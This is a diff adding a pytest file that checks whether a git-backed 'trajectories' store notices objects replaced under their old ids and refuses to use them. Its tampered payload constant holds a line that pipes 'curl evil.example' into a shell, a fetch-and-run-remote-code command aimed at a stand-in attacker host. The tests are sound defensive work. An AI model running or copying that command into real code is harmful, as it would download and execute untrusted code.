@@ -1,0 +1,102 @@
+"""Objects whose content was replaced under their old ids, which git does not notice: nothing of them is used."""
+
+from __future__ import annotations
+
+import shutil
+import subprocess
+import zlib
+from collections.abc import Callable
+from contextlib import closing
+from pathlib import Path
+
+import pytest
+
+from trajectories.errors import RunBroken
+from trajectories.objects import Reader
+from trajectories.packing import object_id
+from trajectories.report.diffs import PairDiff, pair_diffs
+from trajectories.trees import EMPTY_TREE, FEW_FILES, Trees
+
+EVIL = b"import os; os.system('curl evil.example | sh')\n"
+MANY = {f"many/{number}": b"" for number in range(FEW_FILES + 1)}
+
+
+def replace_object(store: Path, id: str, data: bytes) -> None:
+    """Give an object other content under the same id, as somebody does who sends the store back."""
+    packs = store / "objects" / "pack"
+    for pack in list(packs.glob("*.pack")):
+        taken = pack.rename(store / pack.name)
+        pack.with_suffix(".idx").unlink()
+        with taken.open("rb") as file:
+            subprocess.run(["git", "unpack-objects", "-q"], env={"GIT_DIR": str(store)}, stdin=file, check=True)
+        taken.unlink()
+    shutil.rmtree(packs)
+    packs.mkdir()
+    loose = store / "objects" / id[:2] / id[2:]
+    kind = zlib.decompress(loose.read_bytes()).split(b" ")[0]
+    loose.unlink()
+    loose.write_bytes(zlib.compress(b"%b %d\0%b" % (kind, len(data), data)))
+
+
+@pytest.fixture(params=[{}, MANY], ids=["few files", "many files"])
+def states(request: pytest.FixtureRequest, tmp_path: Path) -> tuple[Path, str, str]:
+    with Trees(tmp_path / "trees.git") as trees:
+        old = trees.write({**request.param, "a/core.py": b"a - b\n"}, EMPTY_TREE)
+        return trees.path, old, trees.write({"a/core.py": b"a + b\n"}, old)
+
+
+Asks = Callable[[Trees, str, str], object]
+OF_A_FILE: dict[str, Asks] = {
+    "diff": lambda trees, old, new: trees.diff(old, new),
+    "diff of paths": lambda trees, old, new: trees.diff(old, new, ["a/core.py"]),
+    "read": lambda trees, old, new: trees.read(new, "a/core.py"),
+    "check": lambda trees, old, new: trees.check_difference(old, new),
+}
+OF_A_FOLDER: dict[str, Asks] = {
+    "changed": lambda trees, old, new: trees.changed(old, new),
+    "files": lambda trees, old, new: trees.files(new),
+    "overlay": lambda trees, old, new: trees.overlay(new, old, ["a"]),
+    "write": lambda trees, old, new: trees.write({"a/ b": b""}, new),
+}
+
+
+@pytest.mark.parametrize("ask", OF_A_FILE.values(), ids=OF_A_FILE)
+def test_a_replaced_file_is_not_used(ask: Asks, states: tuple[Path, str, str]) -> None:
+    path, old, new = states
+    replace_object(path, object_id("blob", b"a + b\n"), EVIL)
+    with Trees(path) as trees, pytest.raises(RunBroken, match="was replaced: its content has another id"):
+        ask(trees, old, new)
+
+
+@pytest.mark.parametrize("ask", [*OF_A_FILE.values(), *OF_A_FOLDER.values()], ids=[*OF_A_FILE, *OF_A_FOLDER])
+def test_a_replaced_folder_is_not_used(ask: Asks, states: tuple[Path, str, str]) -> None:
+    path, old, new = states
+    with Trees(path) as trees:
+        evil = bytes.fromhex(object_id("blob", EVIL))
+        trees.write({"evil": EVIL}, EMPTY_TREE)
+        _, folder = trees.entry(new, "a") or ("", "")
+    replace_object(path, folder, b"100644 core.py\0" + evil)
+    with Trees(path) as trees, pytest.raises(RunBroken, match="was replaced: its content has another id"):
+        ask(trees, old, new)
+
+
+def test_a_report_shows_nothing_of_a_replaced_file(states: tuple[Path, str, str]) -> None:
+    path, old, new = states
+    replace_object(path, object_id("blob", b"a + b\n"), EVIL)
+    with Trees(path, read_only=True) as trees:
+        good = trees.write({}, old)
+        assert list(pair_diffs(trees, [(old, new), (old, good)], 1_000_000)) == [PairDiff(missing=True), PairDiff()]
+
+
+def test_a_replaced_file_too_large_for_memory_is_found(states: tuple[Path, str, str]) -> None:
+    path, _, _ = states
+    id = object_id("blob", b"a + b\n")
+    with Trees(path) as trees, closing(Reader(trees.env, path)) as reader:
+        reader.check(id)
+        assert reader.get(id) == ("blob", b"a + b\n")
+    replace_object(path, id, EVIL * 100_000)
+    with Trees(path) as trees, closing(Reader(trees.env, path)) as reader:
+        for _ in range(2):
+            with pytest.raises(RunBroken, match="its content has another id"):
+                reader.check(id)
+            assert reader.get(EMPTY_TREE) == ("tree", b"")
